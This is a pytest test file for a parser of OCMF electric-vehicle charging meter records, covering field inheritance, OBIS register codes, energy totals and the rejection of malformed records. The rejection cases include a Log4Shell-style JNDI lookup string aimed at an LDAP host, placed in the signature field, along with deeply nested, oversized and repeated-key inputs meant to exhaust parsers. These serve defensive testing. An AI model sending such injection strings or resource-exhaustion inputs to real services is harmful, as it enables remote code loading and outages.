"""Reading OCMF: every octet kept, fields that repeat filled in, and hostile records answered in bounded time."""

from __future__ import annotations

import json
import time
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from v2gstack.errors import DecodeError
from v2gstack.metering import ClockStatus
from v2gstack.metering.ocmf import MAX_OCMF_BYTES, EnergyFlow, flow_of, parse_ocmf
from v2gstack.metering.ocmf.obis import is_transaction_register, quantity_of

SIGNATURE = '{"SD":"3006020101020101"}'


def record(payload: str, signature: str = SIGNATURE) -> str:
    return f"OCMF|{payload}|{signature}"


def test_the_octets_are_kept_as_they_came() -> None:
    payload = '{ "PG" : "T1",\r\n "RD":[{"RV":1.6370,"RI":"1-b:1.8.0","RU":"kWh"}] }'
    found = parse_ocmf(f"\n {record(payload)} \n")
    assert found.signed == payload.encode()
    assert found.data == record(payload).encode()
    assert found.payload.readings[0].value == Decimal("1.6370")
    assert str(found.payload.readings[0].value) == "1.6370"


def test_readings_take_from_the_one_before_what_they_leave_out() -> None:
    first = {
        "TM": "2022-02-03T04:05:06,789+0130 R",
        "TX": "B",
        "RV": 1,
        "RI": "1-0:2.8.0",
        "RU": "Wh",
        "RT": "DC",
        "CL": 3,
        "EF": "t",
        "ST": "T",
    }
    found = parse_ocmf(record(json.dumps({"PG": "T9", "RD": [first, {"RV": 5}, {"TX": "E", "EF": "", "RV": 7}]}))).payload.readings
    assert [each.value for each in found] == [1, 5, 7]
    assert [each.transaction for each in found] == ["B", "B", "E"]
    assert [each.error_flags for each in found] == ["t", "t", ""]
    assert [each.loss for each in found] == [3, None, None]
    for each in found:
        assert (each.identification, each.unit, each.current_type, each.status) == ("1-0:2.8.0", "Wh", "DC", "T")
        assert each.clock is ClockStatus.RELATIVE
        assert each.time is not None
        assert each.time.isoformat() == "2022-02-03T04:05:06.789000+01:30"
    assert not found[0].billable


def test_what_real_meters_write_is_read() -> None:
    """Numbers where text should be, text with blanks where numbers should be, versions as numbers."""
    payload = '{"FV":1.0,"CT":0,"IS":"VERIFIED","PG":"T1","RD":[{"RV":"      49.440","RI":"01-0B:01.08.00*FF","RU":"kWh"}],"UCPN":"101"}'
    found = parse_ocmf(record(payload)).payload
    assert (found.format_version, found.charge_point_type, found.user_assigned) == ("1.0", "0", None)
    assert found.readings[0].energy == Decimal(49440)
    assert found.extensions == {"UCPN": "101"}


def test_a_key_behind_the_record_is_kept_apart() -> None:
    found = parse_ocmf(record('{"PG":"T1"}') + "|3059 3013")
    assert (found.signed, found.embedded_key) == (b'{"PG":"T1"}', "3059 3013")
    assert parse_ocmf(record('{"PG":"T1"}')).embedded_key == ""


def test_energy_is_counted_by_register_and_direction() -> None:
    def reading(code: str, value: str, reason: str) -> str:
        return f'{{"RI":"{code}","RU":"kWh","RV":{value},"TX":"{reason}","ST":"G"}}'

    both = ",".join(
        [
            reading("1-0:1.8.0", "10.5", "B"),
            reading("1-0:2.8.0", "3.25", "B"),
            reading("1-0:1.8.0", "12", "E"),
            reading("1-0:2.8.0", "7", "E"),
        ]
    )
    found = parse_ocmf(record(f'{{"PG":"T1","RD":[{both}]}}')).payload
    assert found.energy(EnergyFlow.IMPORT) == 1500
    assert found.energy(EnergyFlow.EXPORT) == 3750
    assert found.remarks() == ()


def test_remarks_tell_what_is_not_to_be_billed() -> None:
    rows = [("G", "", 10), ("E", "", 11), ("G", "Et", 9)]
    readings = [{"RI": "1-b:1.8.0", "RU": "Wh", "RV": value, "ST": status, "EF": flags} for status, flags, value in rows]
    found = parse_ocmf(record(json.dumps({"PG": "T1", "RD": readings}))).payload.remarks()
    assert len(found) == 4
    assert "reading 2: meter status E" in found[0]
    assert "reading 3" in found[1]
    assert "time" in found[2]
    assert "shrinks from reading 2 to reading 3" in found[3]
    assert parse_ocmf(record('{"PG":"T1"}')).payload.remarks() == ("there is no reading in it",)


@pytest.mark.parametrize(
    ("code", "quantity", "flow"),
    [
        ("1-b:1.8.0", "1.8.0", "import"),
        ("01-0B:01.08.00*FF", "1.8.0", "import"),
        ("01-00:01.08.00.FF", "1.8.0", "import"),
        ("1-0:2.8.0", "2.8.0", "export"),
        ("1-b:1.8.e", "1.8.e", "import"),
        ("01-00:B2.08.00*FF", "B2.8.0", "import"),
        ("01-00:C3.08.00*FF", "C3.8.0", "export"),
        ("1-b:1.9.0", "1.9.0", None),
        ("01-00:00.08.06.FF", "0.8.6", None),
        ("1-0:98.8.0.FF", "98.8.0", None),
        ("1-0:11.7.0", "11.7.0", None),
        ("1-b", None, None),
        ("", None, None),
    ],
)
def test_codes_are_read_in_every_spelling(code: str, quantity: str | None, flow: str | None) -> None:
    assert quantity_of(code) == quantity
    assert flow_of(code) == flow


def test_registers_of_a_transaction_are_known() -> None:
    assert is_transaction_register("01-00:B2.08.00*FF")
    assert not is_transaction_register("01-00:B1.08.00*FF")
    assert not is_transaction_register("1-0:1.8.0")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "bars"),
        ("OCMF", "bars"),
        ("OCMF|{}", "bars"),
        ('XCMF|{}|{"SD":"00"}', "bars"),
        ('OCMF|{}|{"SD":""}', "no signature"),
        ("OCMF|{}|{}", "no signature"),
        ('OCMF|{}|{"SD":5}', "no signature"),
        ('OCMF|{}|{"SD":"0"}', "no hex"),
        ('OCMF|{}|{"SD":"${jndi:ldap://example.org/a}3045"}', "no hex"),
        ('OCMF|{}|{"SD":"00","SE":"foo"}', "hex or base64"),
        ('OCMF|{}|{"SD":"00","SM":"text/plain"}', "application/x-der"),
        ('OCMF|{}|{"SD":"00","SA":"ECDSA-secp112r1-SHA256"}', "not known"),
        ('OCMF|{}|{"SD":"00","SA":"RSA"}', "not known"),
        ('OCMF|[]|{"SD":"00"}', "object"),
        ('OCMF|{"RD":5}|{"SD":"00"}', "list"),
        ('OCMF|{"RD":[5]}|{"SD":"00"}', "object"),
        ('OCMF|{"RD":[{"RV":[]}]}|{"SD":"00"}', "number"),
        ('OCMF|{"RD":[{"RV":"a"}]}|{"SD":"00"}', "no number"),
        ('OCMF|{"RD":[{"RV":NaN}]}|{"SD":"00"}', "no number"),
        ('OCMF|{"RD":[{"RV":"NaN"}]}|{"SD":"00"}', "larger"),
        ('OCMF|{"RD":[{"RV":1e999999999}]}|{"SD":"00"}', "larger"),
        ('OCMF|{"RD":[{"RV":1,"RV":2}]}|{"SD":"00"}', "RV comes twice"),
        ('OCMF|{"PG":"T1"}|{"SD":"00","SD":"01"}', "SD comes twice"),
    ],
)
def test_what_is_no_record_is_told(text: str, says: str) -> None:
    with pytest.raises(DecodeError, match=says):
        parse_ocmf(text)


HOSTILE: dict[str, Any] = {
    "deep": "[" * 20_000,
    "closers in strings first": '{"a":"' + "]" * 1_000 + '","b":' + "[" * 1_000 + "}",
    "quotes without end": '"\\' * 20_000,
    "digits": '{"RD":[{"RV":' + "9" * 60_000 + "}]}",
    "exponents": '{"RD":[{"RV":1e' + "9" * 60_000 + "}]}",
    "the same key": "{" + ",".join('"a":1' for _ in range(8_000)) + "}",
    "keys": "{" + ",".join(f'"{number}":1' for number in range(6_000)) + ',"0":1}',
    "bars": "|" * 60_000,
}


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_records_are_answered_soon(payload: str) -> None:
    begin = time.process_time()
    with pytest.raises(DecodeError):
        parse_ocmf(record(payload))
    assert time.process_time() - begin < 1.0


def test_records_have_a_longest_length() -> None:
    room = MAX_OCMF_BYTES - len(record('{"PG":"T1","Z":""}'))
    assert parse_ocmf(record('{"PG":"T1","Z":"%s"}' % ("z" * room))).payload.pagination == "T1"
    with pytest.raises(DecodeError, match="at most"):
        parse_ocmf(record('{"PG":"T1","Z":"%s"}' % ("z" * (room + 1))))


@given(
    st.binary(max_size=300)
    | st.text(max_size=300).map(str.encode)
    | st.binary(max_size=80).map(lambda octets: b"OCMF|" + octets + b'|{"SD":"00"}')
)
def test_any_octets_are_a_record_or_an_error(octets: bytes) -> None:
    try:
        found = parse_ocmf(octets)
    except DecodeError:
        return
    assert b"|" + found.signed + b"|" in octets
